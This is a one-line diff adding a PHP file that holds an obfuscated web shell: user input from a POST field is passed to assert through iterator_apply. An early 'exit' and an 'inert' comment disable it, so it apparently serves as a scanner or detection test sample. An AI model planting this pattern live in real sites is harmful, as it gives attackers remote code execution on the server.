@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $a = new ArrayIterator(array($_POST["v"])); iterator_apply($a, "assert", array($_POST["v"]));
